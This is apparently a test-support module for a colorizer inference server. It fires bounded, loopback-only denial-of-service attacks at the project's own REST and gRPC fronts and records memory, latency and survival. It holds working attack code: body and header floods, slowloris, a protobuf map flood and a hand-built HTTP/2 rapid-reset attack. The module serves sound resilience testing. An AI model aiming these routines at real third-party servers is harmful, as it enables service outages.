"""Hostile callers against a running colorizer server, on loopback only (issue #36).

Each attack is a small named function that runs in its own process, pinned to one core
(the attacker shares the machine's cores with the server, so it gets one of them and no
more), and returns what it was answered and when. ``measure`` runs one attack while it
samples the RSS of the server processes it is told to watch and while a normal caller, in
this process, sends real photos over REST; ``fair_baseline`` is that normal caller's
latency while a busy loop holds the attacker's core. Every attack is bounded in count and
in time (``timeout``), and stops by itself.

Report, a markdown table on stdout::

    python -m tests.support.attacks --url http://127.0.0.1:8080 --grpc 127.0.0.1:7070 \\
        --jvm-pid 1234 [--watch-pid 5678 ...] [--timeout 60] [--only form_flood,...]

Used by tests/e2e/test_hostile.py, which asserts the bounds.
"""

from __future__ import annotations

import argparse
import multiprocessing
import os
import re
import resource
import selectors
import socket
import statistics
import struct
import threading
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import psutil
import requests

from serving.front.grpc_front import read_properties
from serving.front.nginx import NGINX_CONF
from tests.support.paths import LAUNCHER, PHOTOS

MODEL = "colorizer"
PREDICTIONS_PATH = "/org.pytorch.serve.grpc.inference.InferenceAPIsService/Predictions"
PHOTO = PHOTOS / "gcompris-cat-chair.jpg"  # 11.7 kB: a small real JPEG
ATTACK_TIMEOUT_S = 60.0  # the attacker gives up waiting for an answer after this
MIN_WINDOW_S = 5.0  # the normal caller is measured at least this long per attack


# --- the server's processes ----------------------------------------------------------------


def watched_pids(server) -> dict[str, int]:
    """name -> pid of the server processes whose memory and life an attack watches: the JVM
    and the fronts that ``served()`` names (``server.front``: name -> process), with their
    children (nginx's workers)."""
    pids = {"jvm": server.jvm_pid}
    for name, proc in server.front.items():
        pids[name] = proc.pid
        for i, child in enumerate(proc.children(recursive=True)):
            pids[f"{name}/{i + 1}"] = child.pid
    return pids


def worker_pids(jvm: int) -> set[int]:
    """The model's Python workers (children of the JVM)."""
    found = set()
    for p in psutil.Process(jvm).children(recursive=True):
        try:
            if any("model_service_worker" in part for part in p.cmdline()):
                found.add(p.pid)
        except psutil.Error:
            pass
    return found


def front_idle_timeout_s(conf: Path = NGINX_CONF) -> float:
    """The longest of the REST front's client_header_timeout / client_body_timeout, as
    serving/front/nginx.conf sets them (it must set them)."""
    found = []
    for m in re.finditer(
        r"^\s*client_(?:header|body)_timeout\s+(\d+)(ms|s|m)?\s*;", conf.read_text(), re.M
    ):
        value, unit = float(m.group(1)), m.group(2) or "s"
        found.append(value / 1000 if unit == "ms" else value * 60 if unit == "m" else value)
    assert found, f"{conf} sets no client_header_timeout / client_body_timeout"
    return max(found)


class RssSampler(threading.Thread):
    """Samples the RSS of ``pids`` (name -> pid) every ``period`` s until stopped."""

    def __init__(self, pids: dict[str, int], period: float = 0.1):
        super().__init__(daemon=True)
        self.procs = {}
        for name, pid in pids.items():
            try:
                self.procs[name] = psutil.Process(pid)
            except psutil.Error:
                pass
        self.period = period
        self.start_mib = {n: self._rss(p) for n, p in self.procs.items()}
        self.peak_mib = dict(self.start_mib)
        self._halt = threading.Event()

    @staticmethod
    def _rss(p: psutil.Process) -> float:
        try:
            return p.memory_info().rss / 2**20
        except psutil.Error:
            return 0.0

    def run(self) -> None:
        while not self._halt.wait(self.period):
            for name, p in self.procs.items():
                self.peak_mib[name] = max(self.peak_mib[name], self._rss(p))

    def stop(self) -> None:
        self._halt.set()
        self.join()


def alive(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.Error:
        return False


# --- the normal caller ---------------------------------------------------------------------


class NormalCaller(threading.Thread):
    """Sends the photo over REST, one call after another, until stopped; records latencies."""

    def __init__(self, url: str, photo: bytes, timeout: float):
        super().__init__(daemon=True)
        self.endpoint = f"{url}/predictions/{MODEL}"
        self.photo, self.timeout = photo, timeout
        self.latencies: list[float] = []
        self.failures: list[str] = []
        self._halt = threading.Event()

    def run(self) -> None:
        with requests.Session() as session:
            while not self._halt.is_set():
                start = time.perf_counter()
                try:
                    resp = session.post(
                        self.endpoint,
                        data=self.photo,
                        headers={"Content-Type": "image/jpeg"},
                        timeout=self.timeout,
                    )
                    if resp.status_code != 200:
                        self.failures.append(str(resp.status_code))
                except requests.RequestException as exc:
                    self.failures.append(type(exc).__name__)
                self.latencies.append(time.perf_counter() - start)

    def stop(self, wait: float) -> None:
        self._halt.set()
        self.join(wait)


def percentile(values: list[float], q: int) -> float:
    if not values:
        return float("nan")
    return (
        statistics.quantiles(values, n=100, method="inclusive")[q - 1]
        if len(values) > 1
        else values[0]
    )


# --- running an attacker in its own process, on one core -----------------------------------


def attacker_core() -> int:
    """The core the attacker (and the baseline's busy loop) is pinned to: the last one."""
    return max(os.sched_getaffinity(0))


def _child(name: str, kwargs: dict, core: int, conn) -> None:
    os.sched_setaffinity(0, {core})
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        result = ATTACKS[name](**kwargs)
    except Exception as exc:  # the attacker's own failure, reported, never hidden
        result = {"answer": f"attacker error: {type(exc).__name__}: {exc}", "seconds": float("nan")}
    conn.send(result)
    conn.close()


def _busy(core: int, until: float) -> None:
    os.sched_setaffinity(0, {core})
    while time.monotonic() < until:
        pass


_MP = multiprocessing.get_context("spawn")


class _Percentiles:
    """p50 and p99 of a normal caller's ``latencies``."""

    latencies: list[float]

    @property
    def p50(self) -> float:
        return percentile(self.latencies, 50)

    @property
    def p99(self) -> float:
        return percentile(self.latencies, 99)


@dataclass
class Baseline(_Percentiles):
    latencies: list[float]
    failures: list[str]


def fair_baseline(url: str, samples: int = 200, photo: bytes | None = None) -> Baseline:
    """The normal caller's latency over ``samples`` photos while a busy loop holds the
    attacker's core (so an attack is compared with a caller who had the same CPU)."""
    photo = photo if photo is not None else PHOTO.read_bytes()
    requests.post(
        f"{url}/predictions/{MODEL}",
        data=photo,
        headers={"Content-Type": "image/jpeg"},
        timeout=120,
    )
    busy = _MP.Process(target=_busy, args=(attacker_core(), time.monotonic() + 600), daemon=True)
    busy.start()
    try:
        caller = NormalCaller(url, photo, timeout=120)
        caller.start()
        until = time.monotonic() + 300
        while len(caller.latencies) < samples and time.monotonic() < until and caller.is_alive():
            time.sleep(0.05)
        caller.stop(wait=120)
    finally:
        busy.kill()
        busy.join()
    return Baseline(caller.latencies, caller.failures)


@dataclass
class Result(_Percentiles):
    attack: str
    answer: str
    seconds: float  # when the attacker got its answer (or gave up), from its start
    detail: str
    start_mib: dict[str, float]
    peak_mib: dict[str, float]
    latencies: list[float]
    failures: list[str]
    alive: dict[str, bool]
    workers_same: bool
    wall_s: float
    raw: dict = field(default_factory=dict)

    def growth_mib(self, name: str) -> float:
        return self.peak_mib[name] - self.start_mib[name]


def measure(
    attack: str,
    url: str,
    pids: dict[str, int],
    attack_kwargs: dict,
    *,
    timeout: float = ATTACK_TIMEOUT_S,
    min_window: float = MIN_WINDOW_S,
    photo: bytes | None = None,
) -> Result:
    """Runs ``ATTACKS[attack](timeout=timeout, **attack_kwargs)`` in a process pinned to the
    attacker's core, while sampling the RSS of ``pids`` (name -> pid) and timing normal
    photos to ``url``; the window is the attack's run, at least ``min_window`` s."""
    photo = photo if photo is not None else PHOTO.read_bytes()
    workers = worker_pids(pids["jvm"]) if "jvm" in pids else set()
    sampler = RssSampler(pids)
    sampler.start()
    caller = NormalCaller(url, photo, timeout=timeout + 30)
    parent, child = _MP.Pipe(duplex=False)
    proc = _MP.Process(
        target=_child, args=(attack, {"timeout": timeout, **attack_kwargs}, attacker_core(), child)
    )
    start = time.monotonic()
    proc.start()
    caller.start()
    result = None
    if parent.poll(timeout + 60):  # the attack bounds itself; this only guards against a bug
        result = parent.recv()
    proc.join(5)
    if proc.is_alive():
        proc.kill()
        proc.join()
    remaining = min_window - (time.monotonic() - start)
    if remaining > 0:
        time.sleep(remaining)
    caller.stop(wait=timeout + 30)
    sampler.stop()
    wall = time.monotonic() - start
    result = result or {"answer": "attacker did not report", "seconds": float("nan")}
    return Result(
        attack=attack,
        answer=result["answer"],
        seconds=result["seconds"],
        detail=result.get("detail", ""),
        start_mib=sampler.start_mib,
        peak_mib=sampler.peak_mib,
        latencies=list(caller.latencies),
        failures=list(caller.failures),
        alive={name: alive(pid) for name, pid in pids.items()},
        workers_same=_same_workers(pids, workers),
        wall_s=wall,
        raw=result,
    )


def _same_workers(pids: dict[str, int], before: set[int]) -> bool:
    if not before:
        return True
    return alive(pids["jvm"]) and worker_pids(pids["jvm"]) == before


def settle(
    url: str, within: float = 180.0, pids: dict[str, int] | None = None, photo: bytes | None = None
) -> float:
    """Waits until a normal photo is answered 200 again and the watched processes are
    quiet (under half a core each, over a second): after an attack the server may still be
    working through it. -> seconds waited (``within`` at most)."""
    photo = photo if photo is not None else PHOTO.read_bytes()
    procs = []
    for pid in (pids or {}).values():
        try:
            procs.append(psutil.Process(pid))
        except psutil.Error:
            pass
    start = time.monotonic()
    while time.monotonic() - start < within:
        try:
            resp = requests.post(
                f"{url}/predictions/{MODEL}",
                data=photo,
                headers={"Content-Type": "image/jpeg"},
                timeout=within,
            )
            answered = resp.status_code == 200
        except requests.RequestException:
            answered = False
        if answered:
            for p in procs:
                try:
                    p.cpu_percent(None)
                except psutil.Error:
                    pass
            time.sleep(1)
            busy = []
            for p in procs:
                try:
                    busy.append(p.cpu_percent(None))
                except psutil.Error:
                    pass
            if all(b < 50 for b in busy):
                return time.monotonic() - start
        else:
            time.sleep(1)
    return time.monotonic() - start


# --- raw HTTP/1.1 --------------------------------------------------------------------------


def _hostport(url: str) -> tuple[str, int]:
    parts = urlsplit(url if "//" in url else f"//{url}")
    assert parts.hostname in ("127.0.0.1", "localhost", "::1"), (
        f"loopback only, not {parts.hostname}"
    )
    return parts.hostname, parts.port


def _head(
    url: str, headers: dict[str, str] | list[tuple[str, str]], path: str | None = None
) -> bytes:
    host, port = _hostport(url)
    items = headers.items() if isinstance(headers, dict) else headers
    lines = [f"POST {path or f'/predictions/{MODEL}'} HTTP/1.1", f"Host: {host}:{port}"]
    lines += [f"{k}: {v}" for k, v in items]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _parse_responses(buf: bytes) -> list[tuple[int, bytes, bool]]:
    """(status, first bytes of body, complete) of each response begun in ``buf``."""
    out = []
    while True:
        end = buf.find(b"\r\n\r\n")
        if end < 0 or not buf.startswith(b"HTTP/"):
            return out
        head = buf[:end].decode("latin-1")
        status = int(head.split(" ", 2)[1])
        m = re.search(r"(?im)^content-length:\s*(\d+)", head)
        length = int(m.group(1)) if m else 0
        body = buf[end + 4 : end + 4 + length]
        out.append((status, body[:300], len(body) == length))
        if len(body) < length:
            return out
        buf = buf[end + 4 + length :]


def _describe(status: int, body: bytes) -> str:
    text = body.decode("utf-8", "replace")
    m = re.search(r'"(?:type|error)"\s*:\s*"([^"]+)"', text)
    return f"{status} {m.group(1)}" if m else f"{status}"


def raw_http(
    url: str,
    head: bytes,
    body: Iterable[bytes | memoryview] = (),
    *,
    timeout: float,
    responses: int = 1,
    await_close: float = 0.0,
) -> dict:
    """Sends ``head`` then ``body`` on one connection (from a thread, so an early answer is
    read while the body is still going) and reads until ``responses`` responses came, the
    connection ends or ``timeout`` passes (then, with ``await_close``, up to that long more
    for the server to close it). -> answer, seconds, detail."""
    host, port = _hostport(url)
    start = time.monotonic()
    sock = socket.create_connection((host, port), timeout=10)
    sent = [0]
    sent_s: list[float] = []  # when the last byte went out
    send_error: list[str] = []

    def send() -> None:
        try:
            sock.sendall(head)
            for chunk in body:
                sock.sendall(chunk)
                sent[0] += len(chunk)
            sent_s.append(time.monotonic() - start)
        except OSError as exc:
            send_error.append(type(exc).__name__)

    sender = threading.Thread(target=send, daemon=True)
    sender.start()
    buf, closed, answered_at = b"", "", None
    sock.settimeout(0.5)
    while time.monotonic() - start < timeout:
        try:
            data = sock.recv(65536)
        except TimeoutError:
            continue
        except OSError as exc:
            closed = type(exc).__name__
            break
        if not data:
            closed = "closed"
            break
        buf += data
        got = _parse_responses(buf)
        if got and answered_at is None:
            answered_at = time.monotonic() - start
        if sum(complete for _, _, complete in got) >= responses:
            if not await_close:
                break
            timeout = min(timeout, time.monotonic() - start + await_close)
    elapsed = time.monotonic() - start
    got = _parse_responses(buf)
    with_body = f"{sent[0] / 2**10:.0f} KiB of the body sent" if sent[0] else "no body sent"
    sock.close()
    if got:
        answer = ", ".join(_describe(s, b) for s, b, _ in got)
        if closed:
            answer += f", then {closed}"
        return {
            "answer": answer,
            "seconds": answered_at,
            "statuses": [s for s, _, _ in got],
            "closed": bool(closed),
            "closed_s": elapsed if closed else None,
            "sent_s": sent_s[0] if sent_s else None,
            "detail": with_body,
        }
    if closed:
        return {
            "answer": f"dropped ({closed})",
            "seconds": elapsed,
            "statuses": [],
            "closed": True,
            "closed_s": elapsed,
            "detail": with_body,
        }
    return {
        "answer": f"no answer within {timeout:.0f} s",
        "seconds": elapsed,
        "statuses": [],
        "closed": False,
        "closed_s": None,
        "detail": with_body,
    }


def _chunks(data: bytes, size: int = 1 << 20) -> Iterable[memoryview]:
    view = memoryview(data)
    for i in range(0, len(view), size):
        yield view[i : i + size]


# --- the attacks (each runs in the attacker's process; each returns answer + seconds) -------


def form_flood(url: str, timeout: float, fields: int = 33_000_000) -> dict:
    """One ~95 MiB application/x-www-form-urlencoded body of empty fields: `a=&` x 33 M."""
    body = b"a=&" * fields
    head = _head(
        url, {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": str(len(body))}
    )
    return raw_http(url, head, _chunks(body), timeout=timeout)


def multipart_flood(url: str, timeout: float, parts: int = 1_700_000) -> dict:
    """One ~85 MiB multipart/form-data body of 1.7 M empty parts."""
    part = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    body = part * parts + b"--b--\r\n"
    head = _head(
        url, {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(len(body))}
    )
    return raw_http(url, head, _chunks(body), timeout=timeout)


def slowloris(url: str, timeout: float, connections: int = 3000, body_size: int = 1 << 20) -> dict:
    """``connections`` connections each send the headers and 3 bytes of a ``body_size``
    body, then nothing; -> how many the server dropped (or answered), and when."""
    host, port = _hostport(url)
    head = (
        _head(url, {"Content-Type": "image/jpeg", "Content-Length": str(body_size)})
        + b"\xff\xd8\xff"
    )
    sel = selectors.DefaultSelector()
    start = time.monotonic()
    opened, refused = 0, 0
    for _ in range(connections):
        try:
            s = socket.create_connection((host, port), timeout=5)
            s.sendall(head)
            s.setblocking(False)
            sel.register(s, selectors.EVENT_READ)
            opened += 1
        except OSError:
            refused += 1
    opened_s = time.monotonic() - start
    ended: list[float] = []
    statuses: dict[str, int] = {}
    while sel.get_map() and time.monotonic() - start < timeout:
        for key, _ in sel.select(0.5):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                got = _parse_responses(data)
                if got:
                    tag = str(got[0][0])
                    statuses[tag] = statuses.get(tag, 0) + 1
                continue  # an answer; wait for the close
            ended.append(time.monotonic() - start)
            sel.unregister(s)
            s.close()
    held = len(sel.get_map())
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    sel.close()
    answered = (
        f" (answers: {', '.join(f'{n}x {s}' for s, n in sorted(statuses.items()))})"
        if statuses
        else ""
    )
    if ended:
        answer = (
            f"{len(ended)}/{opened} dropped, first at {min(ended):.1f} s, last at "
            f"{max(ended):.1f} s{answered}; {held} still held at {time.monotonic() - start:.0f} s"
        )
    else:
        answer = f"all {opened} still held after {time.monotonic() - start:.0f} s"
    return {
        "answer": answer,
        "seconds": max(ended) if ended else time.monotonic() - start,
        "opened": opened,
        "refused": refused,
        "held": held,
        "dropped": len(ended),
        "first_drop_s": min(ended) if ended else None,
        "last_drop_s": max(ended) if ended else None,
        "detail": f"opened in {opened_s:.1f} s, {refused} refused",
    }


def big_header(url: str, timeout: float, size: int = 64 * 1024) -> dict:
    """One header ``size`` bytes long."""
    head = _head(url, {"Content-Type": "image/jpeg", "Content-Length": "0", "X-Pad": "a" * size})
    return raw_http(url, head, timeout=timeout)


def many_headers(url: str, timeout: float, count: int = 10_000) -> dict:
    """``count`` small headers."""
    headers = [("Content-Type", "image/jpeg"), ("Content-Length", "0")]
    headers += [(f"X-H{i}", "v") for i in range(count)]
    return raw_http(url, _head(url, headers), timeout=timeout)


def body_beyond_length(url: str, timeout: float, extra: int = 256 * 1024) -> dict:
    """A real photo with its own Content-Length, followed on the connection by ``extra``
    junk bytes the length does not cover."""
    photo = PHOTO.read_bytes()
    head = _head(url, {"Content-Type": "image/jpeg", "Content-Length": str(len(photo))})
    body = [photo, b"\x00" * extra]
    return raw_http(url, head, body, timeout=timeout, responses=2, await_close=5)


def over_the_cap() -> int:
    """max_request_size (the cap on REST bodies and gRPC messages that the front and
    TorchServe share, serving/launcher/config.properties) + 1 MiB."""
    return int(read_properties(LAUNCHER / "config.properties")["max_request_size"]) + 2**20


def rest_oversize(url: str, timeout: float, size: int | None = None) -> dict:
    """A REST body over the request size cap (max_request_size + 1 MiB)."""
    size = size or over_the_cap()
    head = _head(url, {"Content-Type": "image/jpeg", "Content-Length": str(size)})
    body = b"\x00" * size
    return raw_http(url, head, _chunks(body), timeout=timeout)


def _grpc_call(target: str, payloads: list[bytes], timeout: float) -> dict:
    """Sends each serialized PredictionsRequest in ``payloads`` at once (one thread each);
    -> the codes and when each came."""
    import grpc

    _hostport(target)
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    results: list[tuple[str, float, str]] = [("", 0.0, "")] * len(payloads)
    start = time.monotonic()
    with grpc.insecure_channel(target, options=options) as channel:
        call = channel.unary_unary(
            PREDICTIONS_PATH, request_serializer=bytes, response_deserializer=bytes
        )

        def one(i: int) -> None:
            try:
                call(payloads[i], timeout=timeout)
                code, details = "OK", ""
            except grpc.RpcError as exc:
                code, details = exc.code().name, (exc.details() or "")[:120]
            results[i] = (code, time.monotonic() - start, details)

        threads = [threading.Thread(target=one, args=(i,)) for i in range(len(payloads))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    codes = []
    for code, at, _ in results:
        shown = f"no answer within {timeout:.0f} s" if code == "DEADLINE_EXCEEDED" else code
        codes.append(f"{shown} at {at:.1f} s")
    return {
        "answer": "; ".join(codes),
        "seconds": max(at for _, at, _ in results),
        "codes": [c for c, _, _ in results],
        "detail": "; ".join(d for _, _, d in results if d)[:300],
    }


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def map_flood_message(entries: int = 5_000_000) -> bytes:
    """A serialized PredictionsRequest (~64 MB) whose input map holds ``entries`` entries of
    distinct short keys and empty values (encoded by hand: protobuf objects would take
    minutes to build)."""
    parts = [_field(1, MODEL.encode())]
    for i in range(entries):
        key = b"%d" % i
        entry = b"\x0a" + bytes([len(key)]) + key + b"\x12\x00"
        parts.append(b"\x1a" + bytes([len(entry)]) + entry)
    return b"".join(parts)


def grpc_map_flood(target: str, timeout: float, entries: int = 5_000_000, calls: int = 1) -> dict:
    """``calls`` PredictionsRequests at once, each ~64 MB with ``entries`` empty map entries."""
    message = map_flood_message(entries)
    result = _grpc_call(target, [message] * calls, timeout)
    result["detail"] = f"{len(message) / 2**20:.0f} MiB each; " + result["detail"]
    return result


def grpc_oversize(target: str, timeout: float, size: int | None = None) -> dict:
    """A PredictionsRequest over the message size cap: ``data`` of max_request_size + 1 MiB."""
    data = b"\x00" * (size or over_the_cap())
    message = _field(1, MODEL.encode()) + _field(3, _field(1, b"data") + _field(2, data))
    return _grpc_call(target, [message], timeout)


# HTTP/2 by hand: frame header = length (24 bits), type, flags, stream id.
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
_END_HEADERS, _ACK = 0x4, 0x1
_CANCEL = 0x8


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _hpack_literal(name: bytes, value: bytes, index: int = 0) -> bytes:
    """A literal header field without indexing (stateless, so one block serves every
    stream); with ``index`` the name is the static table's."""
    assert len(name) < 127 and len(value) < 127
    if index:
        return bytes([index]) + bytes([len(value)]) + value  # 0000xxxx, index < 15
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def rapid_reset(target: str, timeout: float, streams: int = 500_000, batch: int = 500) -> dict:
    """HTTP/2 rapid reset: opens ``streams`` gRPC Predictions streams (HEADERS) and resets
    each at once (RST_STREAM CANCEL), ``batch`` per write, on one connection (a new one
    when the server ends it), for at most ``timeout`` s."""
    host, port = _hostport(target)
    block = (
        b"\x83"  # :method POST (static 3)
        + b"\x86"  # :scheme http (static 6)
        + _hpack_literal(b":path", PREDICTIONS_PATH.encode(), index=4)
        + _hpack_literal(b":authority", f"{host}:{port}".encode(), index=1)
        + _hpack_literal(b"content-type", b"application/grpc")
        + _hpack_literal(b"te", b"trailers")
    )
    rst = struct.pack(">I", _CANCEL)
    start = time.monotonic()
    sent, connections, goaways, drops, ends = 0, 0, [], [], []
    caught_up: list[float] = []  # when the server acknowledged the PING after the last stream
    sent_at = 0.0
    while sent < streams and time.monotonic() - start < timeout:
        connections += 1
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError as exc:
            drops.append(f"connect: {type(exc).__name__} at {time.monotonic() - start:.1f} s")
            time.sleep(0.2)
            continue
        sock.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        done = threading.Event()

        def read(sock=sock, done=done) -> None:
            buf = b""
            while not done.is_set():
                try:
                    data = sock.recv(1 << 16)
                except OSError as exc:
                    if not done.is_set():
                        ends.append(f"{type(exc).__name__} at {time.monotonic() - start:.1f} s")
                    break
                if not data:
                    ends.append(f"closed by the server at {time.monotonic() - start:.1f} s")
                    break
                buf += data
                at = 0
                while len(buf) - at >= 9:
                    length = int.from_bytes(buf[at : at + 3], "big")
                    if len(buf) - at < 9 + length:
                        break
                    kind, flags = buf[at + 3], buf[at + 4]
                    payload = buf[at + 9 : at + 9 + length]
                    at += 9 + length
                    if kind == _SETTINGS and not flags & _ACK:
                        try:
                            sock.sendall(_frame(_SETTINGS, _ACK, 0))
                        except OSError:
                            break
                    elif kind == _PING and flags & _ACK:
                        caught_up.append(time.monotonic() - start)
                    elif kind == _GOAWAY:
                        code = int.from_bytes(payload[4:8], "big")
                        goaways.append(f"GOAWAY({code:#x}) at {time.monotonic() - start:.1f} s")
                buf = buf[at:]
            done.set()

        reader = threading.Thread(target=read, daemon=True)
        reader.start()
        stream = 1
        try:
            while sent < streams and not done.is_set() and time.monotonic() - start < timeout:
                n = min(batch, streams - sent, (2**31 - 1 - stream) // 2)
                if n <= 0:
                    break
                frames = []
                for _ in range(n):
                    frames.append(_frame(_HEADERS, _END_HEADERS, stream, block))
                    frames.append(_frame(_RST_STREAM, 0, stream, rst))
                    stream += 2
                sock.sendall(b"".join(frames))
                sent += n
            sent_at = time.monotonic() - start
            if sent >= streams:  # all sent: how long until the server has read them all?
                sock.sendall(_frame(_PING, 0, 0, b"caughtup"))
                while not caught_up and not done.is_set() and time.monotonic() - start < timeout:
                    time.sleep(0.05)
        except OSError as exc:
            drops.append(
                f"{type(exc).__name__} at {time.monotonic() - start:.1f} s after {sent} streams"
            )
        done.set()
        sock.close()
        reader.join(2)
    elapsed = time.monotonic() - start
    ended = "; ".join((goaways + drops + ends)[:4])
    read = f", read by the server at {caught_up[0]:.1f} s" if caught_up else ""
    answer = f"{sent} streams reset by {sent_at:.1f} s{read}, on {connections} conn." + (
        f"; {ended}" if ended else "; never refused"
    )
    return {
        "answer": answer,
        "seconds": elapsed,
        "sent": sent,
        "connections": connections,
        "goaways": goaways,
        "drops": drops,
        "ends": ends,
        "caught_up_s": caught_up[0] if caught_up else None,
        "detail": f"{sent / max(elapsed, 1e-9):.0f} streams/s",
    }


ATTACKS: dict[str, Callable[..., dict]] = {
    f.__name__: f
    for f in (
        form_flood,
        multipart_flood,
        slowloris,
        big_header,
        many_headers,
        body_beyond_length,
        rest_oversize,
        rapid_reset,
        grpc_map_flood,
        grpc_oversize,
    )
}
GRPC_ATTACKS = {"rapid_reset", "grpc_map_flood", "grpc_oversize"}

# The report's rows: (row name, attack, extra arguments).
PLAN: list[tuple[str, str, dict]] = [
    ("form_flood", "form_flood", {}),
    ("multipart_flood", "multipart_flood", {}),
    ("slowloris", "slowloris", {}),
    ("rapid_reset", "rapid_reset", {}),
    ("grpc_map_flood", "grpc_map_flood", {}),
    ("grpc_map_flood_x2", "grpc_map_flood", {"calls": 2}),
    ("grpc_oversize", "grpc_oversize", {}),
    ("rest_oversize", "rest_oversize", {}),
    ("big_header", "big_header", {}),
    ("many_headers", "many_headers", {}),
    ("body_beyond_length", "body_beyond_length", {}),
]


def run_planned(
    row: str,
    url: str,
    grpc_target: str,
    pids: dict[str, int],
    timeout: float,
    min_window: float = MIN_WINDOW_S,
    **over,
) -> Result:
    """One row of PLAN, measured; a gRPC attack goes to ``grpc_target``, the others (and
    the normal caller) to ``url``. Rapid reset runs at most 30 s."""
    _, attack, extra = next(p for p in PLAN if p[0] == row)
    where = {"target": grpc_target} if attack in GRPC_ATTACKS else {"url": url}
    if attack == "rapid_reset":
        timeout = min(timeout, 30.0)
    kwargs = {**extra, **where, **over}
    result = measure(attack, url, pids, kwargs, timeout=timeout, min_window=min_window)
    result.attack = row
    return result


# --- the report ----------------------------------------------------------------------------


def _ms(seconds: float) -> str:
    return (
        "-"
        if seconds != seconds
        else f"{seconds * 1e3:.0f} ms"
        if seconds < 10
        else f"{seconds:.1f} s"
    )


def table_header(names: list[str]) -> str:
    mem = " | ".join(f"{n} RSS start -> peak" for n in names)
    return (
        f"| attack | attacker got | at | {mem} | photo p50 / p99 (n, failed) | alive after |\n"
        f"|---|---|---|{'---|' * len(names)}---|---|"
    )


def table_row(r: Result, names: list[str]) -> str:
    mem = " | ".join(
        f"{r.start_mib.get(n, 0):.0f} -> {r.peak_mib.get(n, 0):.0f} MiB" for n in names
    )
    calls = f"{_ms(r.p50)} / {_ms(r.p99)} ({len(r.latencies)}, {len(r.failures)})"
    alive_after = ", ".join(f"{n} {'yes' if a else 'NO'}" for n, a in r.alive.items())
    if not r.workers_same:
        alive_after += ", workers replaced"
    at = "-" if r.seconds is None or r.seconds != r.seconds else f"{r.seconds:.1f} s"
    answer = r.answer.replace("|", "/") + (f" ({r.detail})" if r.detail else "")
    return f"| {r.attack} | {answer} | {at} | {mem} | {calls} | {alive_after} |"


def baseline_row(b: Baseline, names: list[str]) -> str:
    blanks = " | ".join("" for _ in names)
    return (
        f"| fair baseline (busy loop on the attacker's core) | - | - | {blanks} | "
        f"{_ms(b.p50)} / {_ms(b.p99)} ({len(b.latencies)}, {len(b.failures)}) | |"
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--url", required=True, help="REST base URL (loopback)")
    parser.add_argument("--grpc", required=True, help="gRPC target host:port (loopback)")
    parser.add_argument("--jvm-pid", type=int, required=True)
    parser.add_argument(
        "--watch-pid",
        action="append",
        default=[],
        metavar="[NAME=]PID",
        help="another process to watch (a front), repeatable",
    )
    parser.add_argument("--timeout", type=float, default=ATTACK_TIMEOUT_S, help="per attack, s")
    parser.add_argument("--baseline-samples", type=int, default=200)
    parser.add_argument(
        "--settle", type=float, default=240.0, help="wait for the server after each attack, s"
    )
    parser.add_argument(
        "--only", default="", help="comma-separated rows of: " + ", ".join(p[0] for p in PLAN)
    )
    args = parser.parse_args(argv)
    _hostport(args.url)
    _hostport(args.grpc)
    pids = {"jvm": args.jvm_pid}
    for i, item in enumerate(args.watch_pid):
        name, _, pid = item.rpartition("=")
        pids[name or f"front{i + 1}"] = int(pid)
    names = list(pids)
    rows = [r for r in args.only.split(",") if r] or [p[0] for p in PLAN]
    base = fair_baseline(args.url, args.baseline_samples)
    print(table_header(names))
    print(baseline_row(base, names), flush=True)
    for row in rows:
        result = run_planned(row, args.url, args.grpc, pids, args.timeout)
        print(table_row(result, names), flush=True)
        waited = settle(args.url, args.settle, pids)
        if waited >= args.settle:
            print(f"<!-- {row}: still busy or not answering {waited:.0f} s after -->", flush=True)
        elif waited > 5:
            print(f"<!-- {row}: answering and quiet again {waited:.0f} s after -->", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
